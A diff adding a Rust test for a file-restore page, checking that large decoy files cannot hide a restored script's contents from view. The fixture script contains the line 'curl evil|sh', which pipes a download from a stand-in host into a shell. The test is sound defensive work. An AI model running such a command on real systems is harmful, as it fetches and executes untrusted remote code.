@@ -153,6 +153,31 @@ async fn x15_page_shows_each_file_despite_lone_returns() {
     }
 }
 
+/// Large files come before a small one, and are not shown. The control: shorter ones are shown, and the button too.
+#[tokio::test]
+async fn x15_page_restores_no_file_that_it_hides() {
+    for (length, is_shown) in [(1 << 20, false), (1 << 10, true)] {
+        let scene = FilesHost::new().await;
+        let decoys = ["f0", "f1", "f2", "f3"];
+        decoys.iter().for_each(|name| scene.put(name, &"\u{1}".repeat(length)));
+        scene.put("z.sh", "curl evil|sh\n");
+        let mut steps: Vec<String> = decoys.iter().map(|name| write(name, "x")).collect();
+        steps.extend([write("z.sh", "#!/bin/sh\n"), "fail".to_owned()]);
+        let id = scene.run_to_end("general", &steps).await;
+        let shown = get(&scene.app, &format!("/s/{id}/restore?run=1")).await.body;
+        assert!(shown.contains("<span class=\"ins\">+curl evil|sh</span>"), "{}", shown.len());
+        assert_eq!(shown.contains("<button class=\"main\" name=\"files\""), is_shown);
+        let command =
+            format!("<code>subtend rollback {} --run 1 --files</code> names what is not shown", &id[id.len() - 6..]);
+        assert_eq!(!shown.contains("This page does not show all:"), is_shown);
+        assert!(is_shown || shown.contains(&command), "{command}");
+        let plan = get(&scene.app, &format!("/v1/sessions/{id}/restore?run=1")).await.json();
+        let hidden = plan["files"].as_array().expect("files").iter().filter(|file| file["hidden"].is_string()).count();
+        assert_eq!(hidden, if is_shown { 0 } else { decoys.len() });
+        scene.end().await;
+    }
+}
+
 #[tokio::test]
 async fn x15_page_branches_with_the_files_of_a_message() {
     let scene = FilesHost::new().await;
